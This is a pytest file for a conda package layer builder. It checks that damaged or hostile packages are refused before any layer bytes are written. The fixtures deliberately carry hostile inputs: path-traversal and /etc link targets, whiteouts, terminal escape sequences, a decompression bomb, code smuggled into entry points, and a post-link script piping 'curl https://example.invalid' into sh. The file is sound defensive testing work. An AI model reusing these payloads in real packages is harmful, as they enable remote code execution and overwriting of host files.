"""A conda package that is damaged, hostile, or not what it says is refused before a byte of its layer is written."""

import bz2
import io
import json
import re
import tarfile
import time
import zipfile

import pytest
import zstandard
from condachannel import CondaPackage, File, package

from envbuild.digest import Digest
from envbuild.errors import BuildFailed, EnvbuildError, IntegrityError, MissingExtra
from envbuild.layers.conda import condaarchive, zstd
from envbuild.layers.conda.condalayer import layer_of_conda
from envbuild.layers.conda.place import CondaPlace
from envbuild.layers.conda.pythondists import distributions_fact

PYTHON = CondaPlace(prefix="/opt/env", python="3.12", site_packages="lib/python3.12/site-packages")
BARE = CondaPlace(prefix="/opt/env")
HI = {"share/hi": File(b"hi")}
FILE = "demo-1.0-0.conda"


def refusal(built, place=PYTHON, file=""):
    """What a package is refused with; nothing may be written before."""
    written = bytearray()
    with pytest.raises(EnvbuildError) as caught:
        layer_of_conda(
            io.BytesIO(built.content), written.extend, layer_id=Digest.of(b""), file=file or built.file, place=place
        )
    assert not written, "something was written before the package was refused"
    assert caught.value.at, "the refusal does not say which package"
    return caught.value


def member(name, content=b"", *, kind=tarfile.REGTYPE, target="", pax=None):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, target, len(content) if kind == tarfile.REGTYPE else 0
    info.pax_headers = pax or {}
    return info, content


def tar(members, form=tarfile.PAX_FORMAT):
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w", format=form) as archive:
        for info, content in members:
            archive.addfile(info, io.BytesIO(content))
    return into.getvalue()


def pack(plain):
    return zstandard.ZstdCompressor().compress(plain)


def parts(files=None, **options):
    """The members of a good package's container, to be made bad."""
    built = package("demo", files=files or HI, **options)
    with zipfile.ZipFile(io.BytesIO(built.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def container(members):
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_STORED) as archive:
        for name, content in members.items() if isinstance(members, dict) else members:
            archive.writestr(zipfile.ZipInfo(name), content)
    return CondaPackage(FILE, into.getvalue())


def changed(**replaced):
    """The container with `pkg` or `info` (compressed) or `metadata` replaced."""
    names = {"pkg": "pkg-demo-1.0-0.tar.zst", "info": "info-demo-1.0-0.tar.zst", "metadata": "metadata.json"}
    return container({**parts(), **{names[kind]: content for kind, content in replaced.items()}})


def listing(*rows, members=(), **options):
    """A package whose paths.json has these rows, and whose archive has these members beside share/hi."""
    record = {"paths_version": 1, "paths": [{"path_type": "hardlink", **row} for row in rows]}
    info = {"paths.json": json.dumps(record).encode()}
    return package("demo", files=HI, info=info, members=members, **options)


def described(**fields):
    """A package whose index.json has these fields; None takes one away."""
    index = json.loads(_index())
    index = {key: value for key, value in {**index, **fields}.items() if value is not None}
    return package("demo", files=HI, info={"index.json": json.dumps(index).encode()})


def _index():
    content = parts()["info-demo-1.0-0.tar.zst"]
    with tarfile.open(fileobj=io.BytesIO(zstandard.decompress(content))) as archive:
        return archive.extractfile("info/index.json").read()


def with_member(name, content=b"x", **options):
    return package("demo", files=HI, members=[member(name, content, **options)])


def linked(target, path="share/link"):
    return package("demo", files={**HI, path: File(link=target)})


def noarch(*entry_points, **options):
    return package("demo", noarch="python", files=HI, entry_points=entry_points, **options)


def bzip(content):
    return CondaPackage("demo-1.0-0.tar.bz2", content)


GOOD_TAR = tar([member("share/hi", b"hi")])
INTEGRITY = {
    # The container
    "not a zip": (lambda: CondaPackage(FILE, b"PK\3\4 and no more"), "end record|too short"),
    "empty file": (lambda: CondaPackage(FILE, b""), "too short"),
    "bytes before the zip": (lambda: CondaPackage(FILE, b"#!/bin/sh\n" + changed().content), "before"),
    "bytes behind the zip": (lambda: CondaPackage(FILE, changed().content + b"x"), "behind"),
    "no metadata": (lambda: container([i for i in parts().items() if "metadata" not in i[0]]), "metadata"),
    "no pkg": (lambda: container([i for i in parts().items() if "pkg" not in i[0]]), "pkg"),
    "no info": (lambda: container([i for i in parts().items() if "info" not in i[0]]), "info member"),
    "two pkgs": (lambda: container({**parts(), "pkg-other.tar.zst": pack(GOOD_TAR)}), "pkg-other"),
    "another member": (lambda: container({**parts(), "setup.py": b"evil()"}), "setup.py"),
    "a folder in the container": (lambda: container({**parts(), "pkg-x/y.tar.zst": b""}), "pkg-x"),
    "a pkg in another compression": (lambda: container({**parts(), "pkg-demo-1.0-0.tar.gz": b""}), "tar.gz"),
    "metadata that is no JSON": (lambda: changed(metadata=b"{"), "metadata.json is no valid JSON"),
    "metadata that is a list": (lambda: changed(metadata=b"[]"), "no JSON object"),
    "metadata that is huge": (lambda: changed(metadata=b" " * (2 << 20) + b"{}"), "bytes"),
    "pkg that is no zstd": (lambda: changed(pkg=b"no frame at all"), "damaged: "),
    "pkg cut off": (lambda: changed(pkg=pack(GOOD_TAR)[:-3]), "ends too early|damaged"),
    "pkg with bytes behind its frame": (lambda: changed(pkg=pack(GOOD_TAR) + b"tail"), "damaged: "),
    "pkg with a flipped bit": (lambda: changed(pkg=bytes([*pack(GOOD_TAR)[:-9], 0x55, *pack(GOOD_TAR)[-8:]])), ""),
    "a zip whose checksum is wrong": (lambda: CondaPackage(FILE, changed().content.replace(b"version", b"Version")), ""),
    # bzip2
    "bz2 cut off": (lambda: bzip(package("demo", files=HI, format=".tar.bz2").content[:-9]), "ends too early"),
    "bz2 with bytes behind it": (lambda: bzip(package("demo", files=HI, format=".tar.bz2").content + b"xx"), "damaged"),
    "bz2 that is none": (lambda: bzip(b"nothing"), "damaged"),
    "bz2 that is empty": (lambda: bzip(b""), "ends too early"),
    # tar
    "no end of archive": (lambda: changed(pkg=pack(GOOD_TAR[:1024])), "end mark"),
    "a wrong checksum": (lambda: changed(pkg=pack(b"\1" + GOOD_TAR[1:])), "checksum"),
    "data behind the end": (lambda: changed(pkg=pack(GOOD_TAR + b"x" * 512)), "behind the end"),
    "a device": (lambda: with_member("dev/null", kind=tarfile.CHRTYPE), "device"),
    "a FIFO": (lambda: with_member("dev/pipe", kind=tarfile.FIFOTYPE), "FIFO"),
    "an unknown type": (lambda: with_member("x", kind=b"Z"), "unknown type"),
    "a sparse file of pax": (lambda: with_member("x", pax={"GNU.sparse.major": "1"}), "sparse"),
    "a pax name beside a long name": (lambda: changed(pkg=pack(_two_names())), "two long names"),
    "a global pax name": (lambda: changed(pkg=pack(_global_name())), "names or sizes all"),
    # Paths in the archive, listed or not
    "an absolute path": (lambda: with_member("/etc/passwd"), "leaves its place"),
    "a path upwards": (lambda: with_member("share/../../x"), "leaves its place"),
    "a path in pax upwards": (lambda: with_member("x", pax={"path": "../x"}), "leaves its place"),
    "a whiteout": (lambda: with_member("share/.wh.hi"), "deletes others"),
    "an opaque whiteout": (lambda: with_member("share/.wh..wh..opq"), "deletes others"),
    "a control character": (lambda: with_member("share/a\nb"), "control character"),
    "an escape sequence": (lambda: with_member("share/\x1b[31m"), "control character"),
    "a name that is no UTF-8": (lambda: with_member("share/\udcff"), "no UTF-8"),
    "a part too long": (lambda: with_member("share/" + "n" * 256), "too long"),
    "a path too long": (lambda: with_member("/".join(["n" * 200] * 16)), "too long"),
    "a path twice": (lambda: with_member("share/hi"), "twice"),
    "a file that is a folder": (lambda: with_member("share/hi/x"), "below share/hi"),
    "a file below a link": (
        lambda: package("demo", files=HI, members=[member("l", kind=tarfile.SYMTYPE, target="/etc"), member("l/x")]),
        "below l",
    ),
    "a hard link to nothing": (lambda: with_member("h", kind=tarfile.LNKTYPE, target="../etc/shadow"), "hard link to"),
    "a hard link to a later file": (
        lambda: package("demo", members=[member("h", kind=tarfile.LNKTYPE, target="z"), member("z")]),
        "before it",
    ),
    "a hard link to a link": (
        lambda: package(
            "demo",
            members=[
                member("l", kind=tarfile.SYMTYPE, target="/etc/x"),
                member("h", kind=tarfile.LNKTYPE, target="l"),
            ],
        ),
        "no file",
    ),
    # Links
    "an absolute link": (lambda: linked("/etc/passwd"), "leaves the environment"),
    "a link upwards": (lambda: linked("../../etc"), "leaves the environment"),
    "a link to the prefix by its name": (lambda: linked("/opt/env/share/hi"), "leaves the environment"),
    "a link to nothing at all": (lambda: linked(""), "leaves the environment"),
    "a link with a control character": (lambda: linked("a\x07b"), "cannot be written"),
    # paths.json
    "another hash": (lambda: listing({"_path": "share/hi", "sha256": "0" * 64}), "share/hi has sha256 0000"),
    "another size": (lambda: listing({"_path": "share/hi", "size_in_bytes": 3}), "share/hi has 3 bytes, and it has 2"),
    "a file that is not there": (lambda: listing({"_path": "share/no"}), "share/no as a hardlink, which is not in"),
    "a link that is a file": (lambda: listing({"_path": "share/hi", "path_type": "softlink"}), "something else"),
    "a file that is a link": (
        lambda: listing({"_path": "l"}, members=[member("l", kind=tarfile.SYMTYPE, target="share/hi")]),
        "something else",
    ),
    "a directory that is a file": (lambda: listing({"_path": "share/hi", "path_type": "directory"}), "something else"),
    "an unknown path type": (lambda: listing({"_path": "share/hi", "path_type": "mount"}), "unknown path_type"),
    "a path listed twice": (lambda: listing({"_path": "share/hi"}, {"_path": "share/hi"}), "share/hi twice"),
    "a listed path upwards": (lambda: listing({"_path": "../share/hi"}), "leaves its place"),
    "a listed path spelled otherwise": (lambda: listing({"_path": "share//hi"}), "leaves its place"),
    "a row without a path": (lambda: listing({}), "_path"),
    "a hash that is none": (lambda: listing({"_path": "share/hi", "sha256": "zz"}), "cannot be read"),
    "a size below zero": (lambda: listing({"_path": "share/hi", "size_in_bytes": -1}), "no number"),
    "a placeholder that is empty": (
        lambda: listing({"_path": "share/hi", "prefix_placeholder": "", "file_mode": "text"}),
        "placeholder",
    ),
    "a placeholder with a NUL": (
        lambda: listing({"_path": "share/hi", "prefix_placeholder": "a\0b", "file_mode": "binary"}),
        "placeholder",
    ),
    "an unknown file mode": (
        lambda: listing({"_path": "share/hi", "prefix_placeholder": "/p", "file_mode": "magic"}),
        "placeholder",
    ),
    "a placeholder in a link to nothing": (
        lambda: package("demo", files={"l": File(link="no", placeholder="text")}),
        "leads to no file",
    ),
    "paths that are no list": (lambda: package("demo", info={"paths.json": b'{"paths_version":1,"paths":{}}'}), "no list"),
    "a field twice": (lambda: package("demo", info={"paths.json": b'{"paths":[],"paths":[],"paths_version":1}'}), "twice"),
    "nested without end": (lambda: package("demo", info={"paths.json": b'{"a":' + b"[" * 200_000}), "no valid JSON"),
    "no list of files at all": (lambda: package("demo", paths_json=False, info={"files": None}), "neither"),
    "an old list that names what is not there": (
        lambda: package("demo", files=HI, paths_json=False, info={"files": b"share/hi\nshare/no\n"}),
        "share/no",
    ),
    "an old list of prefixes that cannot be read": (
        lambda: package("demo", files=HI, paths_json=False, info={"has_prefix": b'"unclosed text share/hi\n'}),
        "has_prefix",
    ),
    # index.json
    "no index": (lambda: package("demo", files=HI, info={"index.json": None}), "no info/index.json"),
    "an index twice": (lambda: package("demo", format=".tar.bz2", members=[member("info/index.json", b"{}")]), "twice"),
    "an index twice in a container": (
        lambda: changed(info=pack(tar([member("info/index.json", _index()), member("info/index.json", b"{}")]))),
        "there twice",
    ),
    "an index that is a link": (
        lambda: changed(info=pack(tar([member("info/index.json", kind=tarfile.SYMTYPE, target="x")]))),
        "no file",
    ),
    "another name": (lambda: described(name="other"), "'other'"),
    "another version": (lambda: described(version="2.0"), "'2.0'"),
    "another build": (lambda: described(build="h1"), "'h1'"),
    "a name that is a path": (lambda: described(name="../../x"), "x"),
    "no name": (lambda: described(name=None), "name that is no text"),
    "no build number": (lambda: described(build_number=None), "build_number"),
    "a build number that is text": (lambda: described(build_number="1"), "build_number"),
    "dependencies that are text": (lambda: described(depends="python"), "depends"),
    "dependencies with a line feed": (lambda: described(depends=["a", "b\nc"]), "control character"),
    "half a character": (
        lambda: package("demo", info={"index.json": _index().replace(b"MIT", b"\\ud800")}),
        "index.json is no valid JSON",
    ),
    "a document in UTF-16": (
        lambda: package("demo", info={"index.json": _index().decode().encode("utf-16")}),
        "index.json is no valid JSON",
    ),
    "a number that is none": (
        lambda: package("demo", info={"index.json": _index().replace(b"1700000000000", b"NaN")}),
        "NaN is no number",
    ),
    "an unknown noarch": (lambda: described(noarch="java"), "noarch"),
    "a platform that is a path": (lambda: described(subdir="../up"), "platform"),
    "a licence that is a list": (lambda: described(license=["MIT"]), "license"),
    # Entry points
    "a command that is a path": (lambda: noarch("../x = a:b"), "plain file name"),
    "a hidden command": (lambda: noarch(".x = a:b"), "plain file name"),
    "no command": (lambda: noarch(" = a:b"), "plain file name"),
    "code for a module": (lambda: noarch("x = os;evil():b"), "command = module:function"),
    "code for a function": (lambda: noarch("x = a:b();evil"), "command = module:function"),
    "an entry point without a function": (lambda: noarch("x = a"), "command = module:function"),
    "a command with a control character": (lambda: noarch("a\x7fb = a:b"), "control character"),
    "a command that deletes": (lambda: noarch(".wh.python = a:b"), "plain file name"),
    "link.json of another kind": (
        lambda: noarch(info={"link.json": b'{"noarch":{"type":"generic"},"package_metadata_version":1}'}),
        "link.json",
    ),
    # What only placing shows
    "two paths that become one": (
        lambda: package(
            "demo", noarch="python", files={"bin/x": File(b"1"), "python-scripts/x": File(b"2")}
        ),
        "bin/x twice",
    ),
    "a file where noarch needs a folder": (
        lambda: package("demo", noarch="python", files={"lib": File(b""), "site-packages/x.py": File(b"")}),
        "below lib",
    ),
    "a record of its own": (
        lambda: package("demo", files={"conda-meta/demo-1.0-0.json": File(b"{}")}),
        "conda-meta/demo-1.0-0.json",
    ),
}  # fmt: skip


def _two_names():
    long = tar([member("n" * 120, b"x")], tarfile.GNU_FORMAT)
    pax = tar([member("m" * 120, b"x")], tarfile.PAX_FORMAT)
    return pax[:1024] + long


def _global_name():
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"path": "evil"}) as archive:
        archive.addfile(member("x", b"x")[0], io.BytesIO(b"x"))
    return into.getvalue()


@pytest.mark.parametrize("row", INTEGRITY)
def test_a_hostile_or_damaged_package_is_refused(row):
    build, words = INTEGRITY[row]
    fault = refusal(build())
    assert isinstance(fault, IntegrityError)
    assert re.search(words, fault.what), f"it does not say {words!r}"
    assert "\x1b" not in str(fault)


FAILED = {
    "another file format": (lambda: CondaPackage("demo-1.0-0.whl", b""), PYTHON, "no conda package"),
    "a newer container": (lambda: changed(metadata=b'{"conda_pkg_format_version": 3}'), PYTHON, "format 3; 2 is"),
    "a newer paths.json": (
        lambda: package("demo", info={"paths.json": b'{"paths_version":2,"paths":[]}'}), PYTHON, "version 2; 1 is",
    ),
    "noarch Python without a Python": (noarch, BARE, "the environment has none"),
    "a link script": (
        lambda: package("demo", files={"bin/.demo-post-link.sh": File(b"curl https://example.invalid | sh\n", 0o755)}),
        PYTHON, "link script",
    ),
    "a prefix longer than the placeholder": (
        lambda: package("demo", files={"lib/a": File(b"/shorter\0", placeholder="binary", prefix="/shorter")}),
        CondaPlace(prefix="/opt/env/longer"), "room for 8",
    ),
}  # fmt: skip


@pytest.mark.parametrize("row", FAILED)
def test_a_package_that_cannot_be_installed_here_says_why(row):
    build, place, words = FAILED[row]
    fault = refusal(build(), place)
    assert isinstance(fault, BuildFailed)
    assert words in fault.what


def test_a_package_that_unpacks_to_more_than_is_allowed_is_refused(monkeypatch):
    monkeypatch.setattr(condaarchive, "_ALWAYS_ALLOWED", 1 << 20)
    bomb = package("demo", files={"share/zeros": File(bytes(64 << 20))}, level=19)
    assert len(bomb.content) < 64 << 10
    assert "unpacks to more than" in refusal(bomb).what
    assert "unpacks to more than" in refusal(bzip(bz2.compress(bytes(64 << 20)))).what


def test_a_description_that_is_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(condaarchive, "_LARGEST_DOCUMENT", 100)
    assert "info/" in refusal(package("demo", files=HI)).what


def test_without_zstandard_the_extra_that_has_it_is_named(monkeypatch):
    def missing():
        raise MissingExtra("conda", "reading conda's packages and indexes")

    monkeypatch.setattr(zstd, "_library", missing)
    assert "pip install 'envbuild[conda]'" in refusal(package("demo", files=HI)).hint


def test_names_in_refusals_show_no_control_characters():
    fault = refusal(listing({"_path": "share/\x1b[2J"}))
    assert "\x1b" not in str(fault)


def test_a_good_package_is_not_refused():
    """The rows above differ from packages that pass by their fault alone."""
    for built in (container(parts()), package("demo", files=HI), noarch("x = a:b"), linked("hi"), described()):
        layer_of_conda(
            io.BytesIO(built.content), bytearray().extend, layer_id=Digest.of(b""), file=built.file, place=PYTHON
        )


@pytest.mark.parametrize("prefix", ["a", "/short", "/long/with\ud800/half", "/long/with\nlines"])
def test_a_placeholder_that_other_text_could_be_is_refused(prefix):
    """A package of a kilobyte would become a layer of gigabytes, or its texts would be changed where they mean another thing."""
    row = {"_path": "etc/a", "path_type": "hardlink", "prefix_placeholder": prefix, "file_mode": "text"}
    paths = json.dumps({"paths_version": 1, "paths": [row]}).encode()
    built = package("demo", files={"etc/a": File(b"aaaa")}, info={"paths.json": paths})
    assert isinstance(refusal(built), IntegrityError)


def test_the_metadata_of_a_distribution_is_read_in_linear_time():
    started = time.process_time()
    lines = f"Name: demo\nVersion: 1\nRequires-Dist: {';' * 200_000}\nRequires-Dist: x; extra == 'y'\n".encode()
    found = distributions_fact({"lib/python3.12/site-packages/demo-1.dist-info/METADATA": lines})
    assert json.loads(found) == [["demo", "1", ["x; extra == 'y'"]]]
    assert time.process_time() - started < 5, "it took hours"


@pytest.mark.parametrize(
    "files",
    [
        {"bin/envbuild-activate": File(b"#!/bin/sh\n", 0o755)},
        {"conda-meta/history": File(b"")},
        {"conda-meta/history/x": File(b"")},
        {"conda-meta/other-1.0-0.json": File(b"{}")},
        {"CACHEDIR.TAG/x": File(b"")},
        {"bin": File(link="share")},
        {"lib": File(b"x")},
        {"conda-meta": File(link="share")},
    ],
    ids=lambda files: next(iter(files)),
)
def test_what_is_every_environments_own_is_no_packages(files):
    """Else a package takes over the image's entry point, says that others are there, or hides all programs."""
    assert "which is the environment's" in refusal(package("demo", files=files)).what


@pytest.mark.parametrize("command", ["-rf", "a b", "python3.12", "a\u202eb", "", "a/b", ".a"])
def test_an_entry_point_is_a_plain_program(command):
    built = package(
        "demo", noarch="python", entry_points=[f"{command} = demo:main"], files={"site-packages/demo.py": File(b"")}
    )
    assert isinstance(refusal(built), IntegrityError)
